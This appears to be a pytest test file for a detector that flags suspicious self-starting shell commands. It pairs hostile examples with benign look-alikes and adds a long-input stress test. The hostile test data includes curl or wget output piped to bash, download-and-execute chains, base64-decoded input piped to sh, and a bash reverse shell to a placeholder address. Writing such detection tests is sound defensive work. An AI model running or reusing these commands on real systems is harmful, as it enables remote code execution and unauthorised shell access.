"""What is odd about commands that start by themselves."""

import pytest

from hullmark.checks.odd_commands import fetched, odd

ODD = (
    "curl -s http://192.0.2.7/a | bash",
    "(wget -qO- http://192.0.2.7/a || curl http://192.0.2.7/a) | sudo /bin/sh",
    "curl http://192.0.2.7/a -o /a; chmod 755 /a; /a",
    "echo YQ== | base64 -d | sh",
    "bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'",
)
CALM = (
    "curl -s http://192.0.2.7/a | jq . ; sh /usr/bin/report",
    "curl http://192.0.2.7/a # | sh",
    "curl http://192.0.2.7/a -o /a # then: chmod +x /a",
    "echo YQ== | base64 -d > /a; sh /b",
    "chmod +x /a; curl http://192.0.2.7/a",
)


@pytest.mark.parametrize("command", ODD)
def test_intruders_command_is_told(command):
    assert odd(command)


@pytest.mark.parametrize("command", CALM)
def test_command_that_only_looks_like_it_is_not_told(command):
    assert not odd(command)


@pytest.mark.parametrize("word", ["curl ", "chmod +x ", "|sh", "base64 -d ", "eval ", "nc -"])
def test_many_words_in_one_line_are_looked_through(word):
    assert fetched("echo " + word * 2000) == ""
